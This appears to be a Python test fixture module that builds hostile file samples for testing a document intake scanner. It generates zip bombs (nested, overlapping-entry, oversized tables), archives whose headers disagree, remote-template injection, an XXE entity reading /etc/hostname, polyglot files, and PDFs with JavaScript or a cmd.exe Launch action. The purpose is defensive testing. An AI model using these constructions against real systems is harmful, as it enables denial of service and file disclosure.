"""What somebody might send to do harm, each made here: small, and no binary lies in the repository."""

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage

from tests.archive.writings import DOCUMENT, DOCX, RELATION, WORDS, docx, package
from tests.intake.files import HTML, PNG, pdf

LETTER = DOCUMENT.format(text=WORDS, before="")
REMOTE = "https://203.0.113.9/letter.dotm"
EXTERNAL = 'Target="{target}" TargetMode="External"'


def with_more(**more):
    """A letter in Word with other things packed beside it."""
    return package("word/document.xml", DOCX, LETTER, {name.replace("__", "/"): each for name, each in more.items()})


def beside(name, content):
    return package("word/document.xml", DOCX, LETTER, {name: content})


def bomb(size):
    return beside("word/media/image1.bin", b"\0" * size)


def nested(levels, size=40_000_000):
    """A package in a package in a package …; the innermost unfolds."""
    inner = bomb(size)
    for _ in range(levels):
        inner = beside("word/embeddings/inner.docx", inner)
    return inner


def crowd(entries):
    content = io.BytesIO(docx())
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as packed:
        for n in range(entries):
            packed.writestr(f"x/{n}", b"")
    return content.getvalue()


def lying(declared, real=b"x" * 100_000):
    """Its table of contents and its header say another size than its bytes have."""
    whole = bytearray(beside("word/media/a.bin", real))
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        found = whole.rfind(signature)
        struct.pack_into("<I", whole, found + at, declared)
    return bytes(whole)


def two_tables():
    """The header of an entry calls it otherwise than the table does: who reads which, sees another file."""
    whole = beside("word/media/shown.png", PNG)
    return whole.replace(b"word/media/shown.png", b"word/media/other.exe", 1)


def overlapping(entries=200, size=1_000_000):
    """Every entry of the table points at the same bytes (D. Fifield's bomb, the simple kind)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(b"\0" * size) + kernel.flush()
    crc, name = zlib.crc32(b"\0" * size), b"word/document.xml"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), size, len(name), 0) + name
    table = b""
    for n in range(entries):
        each = name if n == 0 else b"%017d" % n
        sizes = (crc, len(packed), size, len(each), 0, 0, 0, 0, 0, 0)
        table += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes) + each
    body = local + packed
    return body + table + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(table), len(body), 0)


def huge_table(size):
    """What only lists its contents, at length."""
    entries = size // 60
    table = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 14, 0, 0, 0, 0, 0, 0) + b"%014d" % n
        for n in range(entries)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries & 0xFFFF, entries & 0xFFFF, len(table), 30, 0)
    return b"PK\x03\x04" + bytes(26) + table + end


def damaged():
    whole = bytearray(beside("word/media/a.bin", bytes(range(256)) * 40))
    whole[whole.find(b"word/media/a.bin") + 40] ^= 0xFF
    return bytes(whole)


def reaching(kind="attachedTemplate", target=REMOTE, encoding="utf-8"):
    """A template that Word fetches when the letter is opened."""
    said = RELATION.replace('Target="{target}"', EXTERNAL).format(
        kind=f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}", target=target
    )
    return beside("word/_rels/settings.xml.rels", said.encode(encoding))


def declaring(encoding="utf-8"):
    return beside(
        "customXml/item1.xml", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><x>&x;</x>".encode(encoding)
    )


def of_many_parts(parts):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"], mail["Message-ID"] = "a@x.om", "b@x.om", "x", "<1@x.om>"
    mail.set_content("x")
    for n in range(parts):
        mail.add_attachment(b"x", maintype="application", subtype="octet-stream", filename=f"{n}.bin")
    return bytes(mail)


def old_macros():
    """As a Word of before 2007 keeps them: a folder of that name in a compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000_000 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 9_000


PDF_AND_ZIP = pdf(1) + docx()
PNG_AND_ZIP = PNG + docx()
ZIP_AND_PDF = beside("%PDF-1.7", b"x")
HTML_AND_PDF = HTML + b"\n" + pdf(1)
GIF_AND_HTML = b"GIF89a/*" + HTML + b"*/=1;"
PNG_AND_PDF = PNG + pdf(1)
PDF_WITH_A_ZIP = pdf(1).replace(b"endobj", b"endobj\n9 0 obj<</Length 1>>stream\n" + docx() + b"\nendstream endobj", 1)
PDF_WITH_SCRIPT = pdf(1).replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
PDF_THAT_LAUNCHES = pdf(1).replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")
MACROS = beside("xl/vbaProject.bin", b"x")
